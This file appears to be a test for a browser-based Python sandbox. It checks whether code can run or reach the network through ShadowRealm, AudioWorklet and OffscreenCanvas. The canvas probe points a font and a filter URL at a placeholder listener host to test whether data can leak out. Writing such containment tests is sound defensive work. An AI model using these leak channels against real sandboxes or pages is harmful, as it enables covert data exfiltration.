# outcome: ok
# with: door
# prints: held: ShadowRealm
# prints: held: AudioWorklet: absent
# prints: held: OffscreenCanvas
# Other places where code could run.
async def realm():
    kind = getattr(js, "ShadowRealm", None)
    if kind is None:
        raise OSError("absent")
    return kind.new().evaluate("1")
await door("ShadowRealm", realm)
await absent("AudioWorklet")
async def canvas():
    context = js.OffscreenCanvas.new(1, 1).getContext("2d")
    context.font = "1px url(http://{listener}/leak.woff)"
    context.filter = "url(http://{listener}/leak.svg#f)"
    context.fillText("x", 0, 0)
    raise OSError("it draws and loads nothing")
await door("OffscreenCanvas", canvas)
